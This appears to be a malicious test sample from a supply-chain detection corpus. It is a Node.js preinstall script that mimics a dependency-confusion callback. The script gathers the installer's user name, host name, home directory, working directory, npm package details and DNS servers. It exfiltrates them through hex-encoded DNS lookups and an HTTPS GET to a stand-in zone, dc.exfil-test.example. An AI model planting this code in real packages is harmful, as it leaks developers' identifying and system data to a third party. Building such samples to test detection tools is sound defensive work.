'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus). Run it only inside the sandbox.
// The dependency-confusion callback (Alex Birsan's research, Feb 2021, and
// the hundreds of copycats that followed), rewritten from the public
// descriptions: a preinstall of a high-versioned look-alike of an internal
// package collects who installed it and where (host name, user name, home,
// cwd, package name and version from npm_package_*, the DNS servers),
// hex-encodes it into DNS labels under a collector's zone, looks up a
// plain `<user>.<host>` name too, and sends the same as the query string of
// an HTTPS GET. Prints `mal-depconf-dns: step N ...`; exits 0 whatever
// fails, after 5 s at the latest.
const dns = require('dns');
const https = require('https');
const os = require('os');

const ZONE = 'dc.exfil-test.example';
const say = (msg) => console.log(`mal-depconf-dns: ${msg}`);
const errText = (e) => (e && (e.code || e.message)) || String(e);
setTimeout(() => { say('gave up after 5 s'); process.exit(0); }, 5000).unref();
process.on('uncaughtException', (e) => { say(`error ${errText(e)}`); process.exit(0); });

const info = {
  p: process.env.npm_package_name || '',
  v: process.env.npm_package_version || '',
  c: process.cwd(),
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
};
say(`step 1 collected ${info.un}@${info.hn} in ${info.c} (package ${info.p}@${info.v})`);

const lookup = (name) => new Promise((resolve) => dns.lookup(name, (err) => resolve(!err)));

(async () => {
  // Hex, 60 characters a label, numbered: <id>.<n>.<chunk>.zone
  const hex = Buffer.from(JSON.stringify(info)).toString('hex');
  const chunks = hex.match(/.{1,60}/g);
  const id = Math.random().toString(16).slice(2, 8);
  let ok = 0;
  for (let i = 0; i < chunks.length; i += 1) {
    if (await lookup(`${id}.${i}.${chunks[i]}.${ZONE}`)) ok += 1;
  }
  say(`step 2 sent ${chunks.length} hex DNS queries (${ok} answered)`);
  const plain = `${info.un}.${info.hn}.${ZONE}`.toLowerCase().replace(/[^a-z0-9.-]/g, '-');
  say(`step 3 looked up ${plain}: ${(await lookup(plain)) ? 'answered' : 'no answer'}`);
  const q = new URLSearchParams({ h: info.hn, u: info.un, d: info.c, p: info.p, v: info.v }).toString();
  const url = `https://${ZONE}/cb?${q}`;
  https.get(url, { timeout: 2500 }, (res) => {
    say(`step 4 GET ${url}: status ${res.statusCode}`);
    res.resume();
    res.on('end', () => process.exit(0));
  }).on('error', (e) => { say(`step 4 GET failed: ${errText(e)}`); process.exit(0); });
})();
